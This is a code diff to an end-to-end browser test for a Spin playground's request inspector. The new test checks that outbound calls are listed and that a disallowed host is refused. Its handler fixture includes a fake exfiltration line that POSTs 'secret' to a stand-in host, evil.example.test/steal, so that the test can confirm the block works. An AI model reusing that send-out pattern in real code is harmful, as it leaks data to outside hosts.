@@ -1,10 +1,18 @@
 /**
  * History's request inspector and the keyboard shortcuts sheet, driven as a user does: a History
  * entry opens (Enter) what was sent and what came back, the host's timings and the log lines of
- * that request only; `?` outside the editor lists the shortcuts with this platform's modifier.
+ * that request only, and the outbound calls its handler made (a denied one explained); `?` outside
+ * the editor lists the shortcuts with this platform's modifier.
  */
 import { expect, test } from '../fixtures/swerve.ts';
-import { DEPLOY_TIMEOUT, newProject, PLAYGROUND, replaceOpenFile, send } from '../fixtures/playground.ts';
+import {
+  DEPLOY_TIMEOUT,
+  newProject,
+  PLAYGROUND,
+  replaceOpenFile,
+  running,
+  send,
+} from '../fixtures/playground.ts';
 
 // Every request logs its path: the inspector must show the line of its own request, not another's.
 const LOGGING_HANDLER = `export default {
@@ -75,4 +83,77 @@ test('a History entry opens its headers, timings and own log lines; ? opens the 
   await page.getByTestId('request-path').press('?');
   await expect(page.getByTestId('request-path')).toHaveValue('/search?');
   await expect(sheet).toBeHidden();
+});
+
+// The js:hello template's manifest, allowed to call one host.
+const CALLING_MANIFEST = `spin_manifest_version = 2
+
+[application]
+name = "hello-js"
+version = "0.1.0"
+
+[[trigger.http]]
+route = "/..."
+component = "handler"
+
+[component.handler]
+source = "runner.wasm"
+files = [{ source = "src", destination = "/" }]
+allowed_outbound_hosts = ["https://api.example.test"]
+`;
+
+// One call the manifest allows, one it does not; the answer says how each went.
+const CALLING_HANDLER = `addEventListener('fetch', (event) => event.respondWith(handle()));
+async function handle() {
+  const weather = await (await fetch('https://api.example.test/weather?city=oslo')).text();
+  let stolen = 'refused';
+  try {
+    await fetch('https://evil.example.test/steal', { method: 'POST', body: 'secret' });
+    stolen = 'sent';
+  } catch {}
+  return new Response(weather + ' / ' + stolen);
+}
+`;
+
+test('the inspector lists the outbound calls of a request, a denied one with what to add', async ({
+  page,
+  context,
+}) => {
+  const reached: string[] = [];
+  await context.route('https://*.example.test/**', (route) => {
+    reached.push(`${route.request().method()} ${route.request().url()}`);
+    return route.fulfill({ body: 'sunny', headers: { 'access-control-allow-origin': '*' } });
+  });
+  await page.setViewportSize({ width: 1280, height: 800 });
+  await page.goto(PLAYGROUND);
+  await newProject(page, 'js:hello');
+  await page.locator('button[title="spin.toml"]').click();
+  await replaceOpenFile(page, CALLING_MANIFEST);
+  await running(page);
+  await page.locator('button[title="src/index.js"]').click();
+  await replaceOpenFile(page, CALLING_HANDLER);
+  await expect(async () => {
+    await send(page, '/calls');
+    await expect(page.getByTestId('response-body')).toHaveText('sunny / refused', { timeout: 1000 });
+  }).toPass({ timeout: DEPLOY_TIMEOUT });
+  expect(reached).toContain('GET https://api.example.test/weather?city=oslo');
+  expect(reached.filter((line) => line.includes('evil'))).toEqual([]);
+
+  await page.getByTestId('tab-history').click();
+  await page.getByTestId('history-entry').first().click();
+  const calls = page.getByTestId('inspector-outbound');
+  await expect(calls.locator('li')).toHaveCount(2);
+  await expect(calls.locator('li').first()).toContainText('GET');
+  await expect(calls.locator('li').first()).toContainText('https://api.example.test/weather?city=oslo');
+  await expect(calls.locator('li').first()).toContainText(/200 · [\d.]+ ms/);
+  const denied = calls.locator('li').nth(1);
+  await expect(denied).toContainText('POST');
+  await expect(denied).toContainText('https://evil.example.test/steal');
+  await expect(denied).toContainText('denied');
+  await expect(denied).toContainText(
+    `Refused by the component's allowed_outbound_hosts: A component tried to make a HTTP request to non-allowed host 'https://evil.example.test'. To allow requests, add 'allowed_outbound_hosts = ["https://evil.example.test"]'`,
+  );
+  await page
+    .getByTestId('request-inspector')
+    .screenshot({ path: test.info().outputPath('inspector-outbound.png') });
 });
